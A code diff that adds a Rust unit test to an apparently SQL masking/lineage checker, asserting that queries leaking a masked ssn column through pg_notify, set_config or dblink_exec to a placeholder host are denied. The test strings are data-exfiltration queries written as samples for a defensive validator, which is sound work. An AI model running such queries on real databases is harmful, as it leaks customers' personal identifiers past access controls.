@@ -930,3 +930,22 @@ fn nothing_masked_in_the_whole_text_is_clear_but_any_mask_lists_every_statement(
         MaskPlan::Statements(v) if v.len() == 2
     ));
 }
+
+#[test]
+fn side_channel_functions_with_computed_arguments_are_denied() {
+    for sql in [
+        "SELECT pg_notify('ch', ssn) FROM app.customers",
+        "SELECT pg_notify('ch', reverse(ssn)) FROM app.customers",
+        "SELECT 1 FROM app.customers WHERE pg_notify('ch', ssn) IS NULL",
+        "SELECT 1 WHERE pg_notify('ch', (SELECT ssn FROM app.customers LIMIT 1)) IS NULL",
+        "SELECT set_config('my.v', ssn, false) FROM app.customers",
+        "SELECT dblink_exec('host=x', 'insert ' || ssn) FROM app.customers",
+    ] {
+        let (rule, message) = denied(sql);
+        assert_eq!(rule, "masking/lineage", "{sql}");
+        assert!(message.contains("()"), "{sql}: {message}");
+    }
+    // Constant arguments carry nothing masked.
+    clear("SELECT pg_notify('ch', 'done')");
+    clear("SELECT set_config('application_name', 'agent', false)");
+}
